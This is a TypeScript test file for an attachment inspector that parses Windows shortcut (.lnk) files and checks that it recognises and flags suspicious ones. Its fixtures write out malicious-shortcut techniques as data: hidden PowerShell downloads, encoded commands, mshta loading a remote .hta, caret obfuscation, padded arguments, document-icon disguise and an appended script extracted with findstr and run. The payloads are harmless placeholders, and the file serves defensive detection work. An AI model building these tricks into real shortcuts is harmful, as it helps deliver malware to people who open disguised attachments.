import { inspect } from 'sekisho'
import { describe, expect, test } from 'vitest'
import { type LnkSketch, lnk } from './fixtures/carrier-lnk.ts'
import { damaged } from './fixtures/carrier-mutate.ts'
import { zipOf } from './fixtures/carrier-zip.ts'
import { allFacts, takeApart } from './fixtures/office-open.ts'

const CMD = 'C:\\Windows\\System32\\cmd.exe'
const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'

interface Row {
  readonly name: string
  readonly sketch: LnkSketch
  readonly command: string
  /** `does word` of some of its facts. */
  readonly does?: readonly string[]
}

const ROWS: readonly Row[] = [
  {
    name: 'an id list',
    sketch: { idList: CMD, args: '/c echo example.com' },
    command: `${CMD} /c echo example.com`,
    does: ['run cmd.exe'],
  },
  { name: 'a link info', sketch: { localPath: CMD, args: '/c echo 1' }, command: `${CMD} /c echo 1` },
  {
    name: 'an environment block that differs from the id list',
    sketch: { idList: 'C:\\a.txt', environment: '%windir%\\system32\\cmd.exe', args: '/k echo 1' },
    command: '%windir%\\system32\\cmd.exe /k echo 1',
    does: ['run cmd.exe'],
  },
  {
    name: 'a relative path only',
    sketch: { relative: '..\\..\\Windows\\System32\\mshta.exe', args: 'https://example.com/a.hta' },
    command: '..\\..\\Windows\\System32\\mshta.exe https://example.com/a.hta',
    does: ['run mshta.exe'],
  },
  { name: 'ANSI texts', sketch: { ansi: true, localPath: CMD, args: '/c echo ansi' }, command: `${CMD} /c echo ansi` },
  {
    name: 'a share',
    sketch: { sharePath: '\\\\files.example.com\\pub', args: '' },
    command: '\\\\files.example.com\\pub',
  },
  {
    name: 'padding before the command',
    sketch: { idList: CMD, args: `${' '.repeat(250)}/c echo example.com` },
    command: `${CMD} /c echo example.com`,
    does: ['hide padded arguments'],
  },
  {
    name: 'padding of line ends and ideographic blanks',
    sketch: { idList: CMD, args: `a${'\u3000\r\n'.repeat(40)}/c echo 1` },
    command: `${CMD} a /c echo 1`,
    does: ['hide padded arguments'],
  },
  {
    name: 'a document icon',
    sketch: { idList: CMD, args: '/c echo 1', icon: 'C:\\Program Files\\Microsoft Office\\winword.exe' },
    command: `${CMD} /c echo 1`,
    does: ['hide icon C:\\Program Files\\Microsoft Office\\winword.exe'],
  },
  {
    name: 'an icon by environment',
    sketch: { idList: CMD, args: '/c echo 1', iconEnvironment: '%SystemRoot%\\System32\\shell32.dll' },
    command: `${CMD} /c echo 1`,
    does: ['hide icon %SystemRoot%\\System32\\shell32.dll'],
  },
  {
    name: 'a minimised window',
    sketch: { idList: POWERSHELL, args: '-c 1', show: 7 },
    command: `${POWERSHELL} -c 1`,
    does: ['run powershell.exe', 'hide minimised window'],
  },
  {
    name: 'carets',
    sketch: { idList: CMD, args: '/c p^o^w^e^r^s^h^e^l^l' },
    command: `${CMD} /c p^o^w^e^r^s^h^e^l^l`,
    does: ['hide caret'],
  },
  {
    name: 'a download',
    sketch: { idList: POWERSHELL, args: '-w hidden iwr https://example.com/a -OutFile b' },
    command: `${POWERSHELL} -w hidden iwr https://example.com/a -OutFile b`,
    does: ['download iwr', 'hide -w hidden'],
  },
  {
    name: 'an encoded command',
    sketch: { idList: POWERSHELL, args: '-enc ZQBjAGgAbwAgADEAMgAzAA==' },
    command: `${POWERSHELL} -enc ZQBjAGgAbwAgADEAMgAzAA==`,
    does: ['hide -enc ZQBjAGgAbwAgADEA'],
  },
  {
    name: 'an appended script',
    sketch: {
      idList: CMD,
      args: '/v:on /c findstr "x.*" "a.doc.lnk" > "%tmp%\\a.vbs" & "%tmp%\\a.vbs"',
      appended: "'example.com\r\nx = 1\r\n",
    },
    command: `${CMD} /v:on /c findstr "x.*" "a.doc.lnk" > "%tmp%\\a.vbs" & "%tmp%\\a.vbs"`,
  },
  {
    name: 'an appended script without a terminal before it',
    sketch: { idList: CMD, args: '/c a.js', unterminated: true, appended: 'var nothing = "example.com";' },
    command: `${CMD} /c a.js`,
  },
  {
    name: 'rundll32',
    sketch: { idList: 'C:\\Windows\\System32\\rundll32.exe', args: 'a.dll,Start' },
    command: 'C:\\Windows\\System32\\rundll32.exe a.dll,Start',
    does: ['run rundll32.exe'],
  },
  {
    name: 'a name with blanks',
    sketch: { localPath: 'C:\\Program Files\\App\\app.exe' },
    command: '"C:\\Program Files\\App\\app.exe"',
  },
  { name: 'Japanese names', sketch: { idList: 'C:\\業務\\台帳.xlsx' }, command: 'C:\\業務\\台帳.xlsx' },
  {
    name: 'a machine',
    sketch: { idList: CMD, machine: 'desktop-example', args: '/c echo 1' },
    command: `${CMD} /c echo 1`,
  },
]

describe('a Windows shortcut', () => {
  test.each(ROWS)('with $name', ({ sketch, command, does = [] }) => {
    const message = takeApart(lnk(sketch), 'a.lnk')
    expect(message.parts[0]?.kind).toBe('lnk')
    expect(allFacts(message, 'command')[0]?.command).toBe(command)
    const facts = message.parts[0]?.facts.flatMap((fact) => (fact.type === 'code' ? [`${fact.does} ${fact.word}`] : []))
    for (const word of does) expect(facts).toContain(word)
  })

  test('that opens a document does nothing worth a word', () => {
    expect(allFacts(takeApart(lnk({ idList: 'C:\\業務\\台帳.xlsx', icon: 'C:\\excel.exe' })), 'code')).toEqual([])
  })

  test('hands out what is appended, named as its command names it', () => {
    const script = 'WScript.Echo "example.com"'
    const inside = (sketch: LnkSketch) =>
      takeApart(lnk({ idList: CMD, ...sketch }))
        .parts.slice(1)
        .map(({ role, kind, name }) => `${role} ${kind} ${name}`)
    expect(inside({ args: '/c x.vbs', appended: script })).toEqual(['hidden script appended.vbs'])
    expect(inside({ args: '/c x', appended: zipOf('a.txt', Buffer.from('hello')) })).toEqual([
      'hidden zip ',
      'member text a.txt',
    ])
    expect(inside({ args: '/c x', appended: Buffer.alloc(64) })).toEqual([])
  })

  test('tells where it was made and what it fetches', () => {
    const message = takeApart(lnk({ idList: CMD, machine: 'desktop-1', icon: '\\\\203.0.113.5\\s\\a.ico' }))
    expect(allFacts(message, 'relation')).toEqual([
      { type: 'relation', relation: 'icon', target: '\\\\203.0.113.5\\s\\a.ico' },
      { type: 'relation', relation: 'made-on', target: 'desktop-1' },
    ])
  })

  test('with a command is held for it', async () => {
    const { findings, verdict } = await inspect(lnk({ idList: CMD, args: '/c echo 1' }), { name: 'a.doc.lnk' })
    expect(verdict.decision).toMatch(/hold|refuse/)
    expect(findings.map(({ id }) => id)).toContain('attachment/shortcut-runs-command')
  })

  test('survives damage', () => {
    const bytes = lnk({
      idList: CMD,
      localPath: CMD,
      sharePath: '\\\\a\\b',
      environment: CMD,
      args: 'x',
      machine: 'm',
      appended: 'abcdefgh',
    })
    for (const broken of damaged(bytes, 300)) {
      const flaws = takeApart(broken).parts.flatMap((part) => part.flaws)
      expect(flaws.filter(({ code }) => code === 'unpack/crashed')).toEqual([])
    }
  })
})
